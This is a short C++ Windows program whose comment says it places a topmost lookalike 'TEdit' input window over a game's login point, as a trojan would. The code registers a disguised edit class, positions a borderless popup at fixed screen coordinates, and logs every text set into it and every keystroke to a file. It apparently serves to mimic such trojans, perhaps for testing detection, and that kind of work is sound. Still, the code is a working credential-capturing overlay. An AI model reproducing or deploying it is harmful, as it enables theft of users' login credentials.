// A program that keeps a small window of class "TEdit" on top at the game's login point,
// as a trojan would to receive what is filled there. It writes every text set into it
// and every key posted to it, one line each, into the file named on its command line.
#include <windows.h>

#include <cstdio>
#include <string>

namespace {

WNDPROC editProcedure = nullptr;
std::string logPath;

void Note(const std::string& line) {
  if (FILE* log = std::fopen(logPath.c_str(), "ab")) {
    std::fprintf(log, "%s\n", line.c_str());
    std::fclose(log);
  }
}

LRESULT CALLBACK Keeper(HWND window, UINT message, WPARAM wParam, LPARAM lParam) {
  if (message == WM_SETTEXT && lParam)
    Note(std::string("set ") + reinterpret_cast<const char*>(lParam));
  if (message == WM_KEYDOWN) Note("key " + std::to_string(wParam));
  if (message == WM_CLOSE) PostQuitMessage(0);
  return CallWindowProcA(editProcedure, window, message, wParam, lParam);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  logPath = argv[1];
  WNDCLASSA edit{};
  GetClassInfoA(nullptr, "EDIT", &edit);
  editProcedure = edit.lpfnWndProc;
  edit.lpfnWndProc = Keeper;
  edit.hInstance = GetModuleHandleA(nullptr);
  edit.lpszClassName = "TEdit";
  RegisterClassA(&edit);
  HWND field = CreateWindowExA(WS_EX_TOPMOST | WS_EX_TOOLWINDOW, "TEdit", "", WS_POPUP | WS_BORDER,
                               370, 255, 80, 22, nullptr, nullptr, edit.hInstance, nullptr);
  ShowWindow(field, SW_SHOWNOACTIVATE);
  Note("ready");
  MSG message;
  while (GetMessageA(&message, nullptr, 0, 0) > 0) {
    TranslateMessage(&message);
    DispatchMessageA(&message);
  }
  return 0;
}
